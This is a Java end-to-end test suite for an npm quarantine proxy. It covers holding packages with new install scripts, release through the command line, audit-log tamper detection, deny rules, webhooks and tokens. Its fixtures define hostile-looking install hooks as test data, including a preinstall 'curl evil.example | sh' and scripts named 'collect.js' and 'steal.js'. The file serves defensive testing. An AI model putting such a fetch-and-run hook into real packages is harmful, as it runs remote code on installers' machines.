package dev.airlock.npm.e2e;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.airlock.config.AirlockConfig;
import dev.airlock.core.testing.ClientProcess;
import dev.airlock.core.testing.RunningAirlock;
import dev.airlock.npm.fixture.FixtureNpmRegistry;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.Statement;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * The security team's workflow with the real npm client and the command line talking to the
 * running server: a held package is released with `airlock quarantine release --server`, then
 * installs; the audit log verifies; an edited row makes `airlock audit verify` fail naming it.
 */
class AdminEndToEndTest {

    private static final ObjectMapper M = new ObjectMapper();

    @TempDir
    Path tmp;

    /** Runs the command line in-process, as an operator would, with a token in the environment's place. */
    private static String[] airlock(String... args) {
        return dev.airlock.cli.testing.Cli.run(args);
    }

    private ClientProcess.Result install(RunningAirlock airlock, String dirName, String spec) throws Exception {
        Path dir = tmp.resolve(dirName);
        Files.createDirectories(dir);
        Files.writeString(dir.resolve("package.json"), "{\"name\":\"app\",\"version\":\"1.0.0\",\"private\":true}");
        return ClientProcess.run(dir, NpmClient.env(tmp.resolve("home-" + dirName), airlock, true), 300,
                List.of("npm", "install", "--no-save", spec));
    }

    @Test
    void aHeldPackageReleasedThroughTheCommandLineInstallsAndTheAuditLogProvesWhoDidIt() throws Exception {
        try (FixtureNpmRegistry registry = FixtureNpmRegistry.builder()
                .pkg("tinted-box", p -> p.version("1.0.0", v -> v.npmUser("ann", "ann@example.test"))
                        .version("1.1.0", v -> v.npmUser("ann", "ann@example.test").script("postinstall", "node collect.js")))
                .start()) {
            AirlockConfig c = RunningAirlock.config(tmp.resolve("data"), "npm", URI.create(registry.baseUrl()));
            try (RunningAirlock airlock = RunningAirlock.start(c)) {
                String server = "http://127.0.0.1:" + airlock.port();
                String admin = airlock.adminToken();
                String[] created = airlock("token", "create", "--name", "sec-team", "--role", "approver", "--server", server, "--token", admin);
                assertEquals("0", created[0], created[2]);
                String approver = created[1].lines().findFirst().orElseThrow();

                ClientProcess.Result refused = install(airlock, "a", "tinted-box@1.1.0");
                assertNotEquals(0, refused.exitCode(), refused.both());

                String[] list = airlock("quarantine", "list", "--json", "--server", server, "--token", approver);
                assertEquals("0", list[0], list[2]);
                JsonNode queue = M.readTree(list[1]);
                assertEquals(1, queue.size(), list[1]);
                String id = queue.get(0).get("id").asText();
                assertTrue(queue.get(0).get("reasons").toString().contains("postinstall"), list[1]);
                // The evidence in one look, from the registry's own documents: both releases side by side.
                JsonNode evidence = M.readTree(airlock.admin("GET", "quarantine/" + id, approver, null).body()).get("evidence");
                assertEquals("ann", evidence.at("/publisher/now").asText(), evidence.toString());
                assertEquals("ann", evidence.at("/publisher/previous").asText());
                assertEquals("1.0.0", evidence.get("previousVersion").asText());
                assertTrue(evidence.hasNonNull("publishedAt"), evidence.toString());
                assertEquals("[{\"op\":\"+\",\"line\":\"postinstall: node collect.js\"}]", evidence.at("/installScripts/diff").toString());

                String[] viewerTry = airlock("quarantine", "release", id, "--reason", "x", "--server", server, "--token",
                        airlock("token", "create", "--name", "watcher", "--role", "viewer", "--server", server, "--token", admin)[1]
                                .lines().findFirst().orElseThrow());
                assertEquals("1", viewerTry[0]);
                assertTrue(viewerTry[2].contains("not allowed"), viewerTry[2]);

                String[] released = airlock("quarantine", "release", id, "--reason", "postinstall reviewed: builds a native addon",
                        "--server", server, "--token", approver);
                assertEquals("0", released[0], released[2]);
                assertTrue(released[1].contains("released npm tinted-box@1.1.0"), released[1]);
                ClientProcess.Result ok = install(airlock, "b", "tinted-box@1.1.0");
                assertEquals(0, ok.exitCode(), ok.both());

                String[] verify = airlock("audit", "verify", "--server", server, "--token", approver);
                assertEquals("0", verify[0], verify[2]);
                String[] export = airlock("audit", "export", "--server", server, "--token", approver);
                List<JsonNode> entries = new ArrayList<>();
                for (String line : export[1].split("\n")) {
                    entries.add(M.readTree(line));
                }
                JsonNode release = entries.stream().filter(e -> e.get("action").asText().equals("release")).findFirst().orElseThrow();
                assertEquals("sec-team", release.get("actor").asText());
                assertEquals(id, release.get("target").asText());
                assertTrue(entries.stream().anyMatch(e -> e.get("action").asText().equals("verdict") && e.get("target").asText().equals(id)),
                        "the automatic hold is in the log too");
                assertTrue(entries.stream().anyMatch(e -> e.get("action").asText().equals("auth.denied")
                        && e.get("actor").asText().equals("watcher")), "the viewer's refused release is in the log");

                try (Connection db = DriverManager.getConnection("jdbc:sqlite:" + tmp.resolve("data/state.db"));
                     Statement st = db.createStatement()) {
                    st.executeUpdate("UPDATE audit_log SET actor='someone-else' WHERE seq=" + release.get("seq").asLong());
                }
                String[] broken = airlock("audit", "verify", "--server", server, "--token", approver);
                assertEquals("1", broken[0], broken[1]);
                assertTrue(broken[2].contains("broken at entry " + release.get("seq").asLong()), broken[2]);
                String[] local = airlock("audit", "verify", "--data", tmp.resolve("data").toString());
                assertEquals("1", local[0], "the same from the data directory");
            }
        }
    }

    @Test
    void aRuleAddedAtRunTimeDeniesAtOnceAndItsRemovalLetsThrough() throws Exception {
        try (FixtureNpmRegistry registry = FixtureNpmRegistry.builder()
                .pkg("plain-box", p -> p.version("1.0.0", v -> v.npmUser("ann", "ann@example.test")))
                .start()) {
            AirlockConfig c = RunningAirlock.config(tmp.resolve("data"), "npm", URI.create(registry.baseUrl()));
            try (RunningAirlock airlock = RunningAirlock.start(c)) {
                String admin = airlock.adminToken();
                assertEquals(0, install(airlock, "a", "plain-box@1.0.0").exitCode());
                var added = airlock.admin("POST", "rules", admin, "{\"kind\":\"deny\",\"pattern\":\"npm:plain-box@*\",\"reason\":\"maintainer account taken over\"}");
                assertEquals(201, added.statusCode(), added.body());
                long ruleId = M.readTree(added.body()).get("id").asLong();
                var denied = airlock.get("/npm/plain-box/-/plain-box-1.0.0.tgz");
                assertEquals(403, denied.statusCode());
                assertTrue(new String(denied.body()).contains("denied by a rule added by the security team"), new String(denied.body()));
                assertNotEquals(0, install(airlock, "b", "plain-box@1.0.0").exitCode(), "npm cannot install it any more");

                assertEquals(200, airlock.admin("DELETE", "rules/" + ruleId, admin, "{\"reason\":\"account recovered\"}").statusCode());
                assertEquals(200, airlock.get("/npm/plain-box/-/plain-box-1.0.0.tgz").statusCode());
                JsonNode log = M.readTree(airlock.admin("GET", "audit?target=rule:" + ruleId, admin, null).body());
                assertEquals(2, log.get("total").asInt(), log.toString());
            }
        }
    }

    @Test
    void aWebhookThatWasDownGetsTheHeldAndReleasedEventsOnceItIsUp() throws Exception {
        int port;
        try (java.net.ServerSocket probe = new java.net.ServerSocket(0, 1, java.net.InetAddress.getLoopbackAddress())) {
            port = probe.getLocalPort();
        }
        java.util.List<JsonNode> received = java.util.Collections.synchronizedList(new ArrayList<>());
        try (FixtureNpmRegistry registry = FixtureNpmRegistry.builder()
                .pkg("hooked-box", p -> p.version("1.0.0", v -> v.npmUser("ann", "ann@example.test"))
                        .version("1.1.0", v -> v.npmUser("ann", "ann@example.test").script("preinstall", "curl evil.example | sh")))
                .start()) {
            AirlockConfig c = RunningAirlock.config(tmp.resolve("data"), "npm", URI.create(registry.baseUrl()))
                    .withNotifications(new dev.airlock.config.NotificationsConfig(List.of(dev.airlock.config.WebhookConfig.of(
                            URI.create("http://127.0.0.1:" + port + "/hook"), dev.airlock.config.WebhookConfig.Format.JSON))));
            try (RunningAirlock airlock = RunningAirlock.start(c)) {
                // The receiver is down: the hold happens, and so does the release.
                assertEquals(200, airlock.get("/npm/hooked-box").statusCode());
                JsonNode queue = M.readTree(airlock.admin("GET", "quarantine", airlock.adminToken(), null).body());
                String id = queue.at("/items/0/id").asText();
                assertEquals(200, airlock.admin("POST", "quarantine/" + id + "/release", airlock.adminToken(),
                        "{\"reason\":\"expected: the vendor's installer\"}").statusCode());
                Thread.sleep(1500); // let a delivery attempt fail against the closed port first

                com.sun.net.httpserver.HttpServer receiver = com.sun.net.httpserver.HttpServer.create(
                        new java.net.InetSocketAddress(java.net.InetAddress.getLoopbackAddress(), port), 0);
                receiver.createContext("/hook", ex -> {
                    received.add(M.readTree(ex.getRequestBody().readAllBytes()));
                    ex.sendResponseHeaders(204, -1);
                    ex.close();
                });
                receiver.start();
                try {
                    long deadline = System.nanoTime() + Duration.ofSeconds(60).toNanos();
                    while (received.size() < 2 && System.nanoTime() < deadline) {
                        Thread.sleep(100);
                    }
                } finally {
                    receiver.stop(0);
                }
                assertEquals(2, received.size(), received.toString());
                assertEquals("held", received.get(0).get("type").asText());
                assertEquals("hooked-box", received.get(0).get("package").asText());
                assertTrue(received.get(0).get("reasons").toString().contains("preinstall"), received.toString());
                assertEquals("released", received.get(1).get("type").asText());
                assertEquals("admin", received.get(1).get("actor").asText());
                assertEquals("expected: the vendor's installer", received.get(1).get("reason").asText());
                assertTrue(airlock.metrics().contains("webhook_retried"), "delivery was retried while the receiver was down");
            }
        }
    }

    /**
     * Notifications wait in the store's outbox: an event the server could not deliver before it
     * stopped, and a decision made from the command line on the data directory while no server
     * ran, both reach the webhook when the server runs again.
     */
    @Test
    void eventsNotDeliveredBeforeAStopAndACommandLineDecisionAreDeliveredByTheNextServer() throws Exception {
        int port;
        try (java.net.ServerSocket probe = new java.net.ServerSocket(0, 1, java.net.InetAddress.getLoopbackAddress())) {
            port = probe.getLocalPort();
        }
        List<JsonNode> received = java.util.Collections.synchronizedList(new ArrayList<>());
        List<String> deliveryIds = java.util.Collections.synchronizedList(new ArrayList<>());
        Path data = tmp.resolve("data");
        try (FixtureNpmRegistry registry = FixtureNpmRegistry.builder()
                .pkg("boxed-in", p -> p.version("1.0.0", v -> v.npmUser("ann", "ann@example.test"))
                        .version("1.1.0", v -> v.npmUser("ann", "ann@example.test").script("install", "node steal.js")))
                .start()) {
            AirlockConfig c = RunningAirlock.config(data, "npm", URI.create(registry.baseUrl()))
                    .withNotifications(new dev.airlock.config.NotificationsConfig(List.of(dev.airlock.config.WebhookConfig.of(
                            URI.create("http://127.0.0.1:" + port + "/hook"), dev.airlock.config.WebhookConfig.Format.JSON))));
            try (RunningAirlock airlock = RunningAirlock.start(c)) {
                // Held while the receiver is down; the server stops before it could deliver.
                assertEquals(200, airlock.get("/npm/boxed-in").statusCode());
                Thread.sleep(1500);
            }
            String[] list = airlock("quarantine", "list", "--json", "--data", data.toString());
            assertEquals("0", list[0], list[2]);
            String id = M.readTree(list[1]).get(0).get("id").asText();
            String[] released = airlock("quarantine", "release", id, "--reason", "install step reviewed", "--data", data.toString());
            assertEquals("0", released[0], released[2]);
            assertEquals(2, undelivered(data), "both events wait in the outbox");

            com.sun.net.httpserver.HttpServer receiver = com.sun.net.httpserver.HttpServer.create(
                    new java.net.InetSocketAddress(java.net.InetAddress.getLoopbackAddress(), port), 0);
            receiver.createContext("/hook", ex -> {
                received.add(M.readTree(ex.getRequestBody().readAllBytes()));
                deliveryIds.add(ex.getRequestHeaders().getFirst("X-Airlock-Delivery"));
                ex.sendResponseHeaders(204, -1);
                ex.close();
            });
            receiver.start();
            try (RunningAirlock airlock = RunningAirlock.start(c)) {
                long deadline = System.nanoTime() + Duration.ofSeconds(30).toNanos();
                while ((received.size() < 2 || undelivered(data) > 0) && System.nanoTime() < deadline) {
                    Thread.sleep(100);
                }
            } finally {
                receiver.stop(0);
            }
        }
        assertEquals(List.of("held", "released"), received.stream().map(j -> j.get("type").asText()).toList(), received.toString());
        assertEquals("install step reviewed", received.get(1).get("reason").asText());
        assertEquals(2, new java.util.HashSet<>(deliveryIds).size(), "each event has its own delivery id: " + deliveryIds);
        assertEquals(0, undelivered(data), "delivered events are marked so, and not sent again");
    }

    private static long undelivered(Path data) throws Exception {
        try (Connection db = DriverManager.getConnection("jdbc:sqlite:" + data.resolve("state.db"));
             Statement st = db.createStatement();
             java.sql.ResultSet rs = st.executeQuery("SELECT count(*) FROM outbox WHERE delivered_at IS NULL")) {
            return rs.getLong(1);
        }
    }

    @Test
    void withRequireTokenNpmNeedsItsAuthTokenAndARevokedOneStopsWorking() throws Exception {
        try (FixtureNpmRegistry registry = FixtureNpmRegistry.builder()
                .pkg("closed-box", p -> p.version("1.0.0", v -> v.npmUser("ann", "ann@example.test")))
                .start()) {
            AirlockConfig c = RunningAirlock.config(tmp.resolve("data"), "npm", URI.create(registry.baseUrl()))
                    .withRequireToken(true);
            try (RunningAirlock airlock = RunningAirlock.start(c)) {
                var anonymous = airlock.get("/npm/closed-box");
                assertEquals(401, anonymous.statusCode());
                assertTrue(anonymous.headers().allValues("www-authenticate").contains("Basic realm=\"airlock\""));
                assertNotEquals(0, install(airlock, "a", "closed-box@1.0.0").exitCode(), "npm without a token is refused");

                String token = M.readTree(airlock.admin("POST", "tokens", airlock.adminToken(),
                        "{\"name\":\"ci\",\"role\":\"viewer\"}").body()).get("token").asText();
                Path dir = tmp.resolve("b");
                Files.createDirectories(dir);
                Files.writeString(dir.resolve("package.json"), "{\"name\":\"app\",\"version\":\"1.0.0\",\"private\":true}");
                java.util.Map<String, String> env = new java.util.HashMap<>(NpmClient.env(tmp.resolve("home-b"), airlock, true));
                // What a developer writes in .npmrc: the registry's auth token, keyed by its host and path.
                Files.writeString(tmp.resolve("home-b/.npmrc"), "//127.0.0.1:" + airlock.port() + "/npm/:_authToken=" + token + "\n");
                ClientProcess.Result ok = ClientProcess.run(dir, env, 300, List.of("npm", "install", "--no-save", "closed-box@1.0.0"));
                assertEquals(0, ok.exitCode(), ok.both());

                assertEquals(200, airlock.admin("DELETE", "tokens/ci", airlock.adminToken(), null).statusCode());
                ClientProcess.Result revoked = ClientProcess.run(dir, env, 300,
                        List.of("npm", "install", "--no-save", "--prefer-online", "closed-box@1.0.0"));
                assertNotEquals(0, revoked.exitCode(), revoked.both());
                assertEquals(401, airlock.get("/npm/closed-box", "Authorization", "Bearer " + token).statusCode());
            }
        }
    }
}
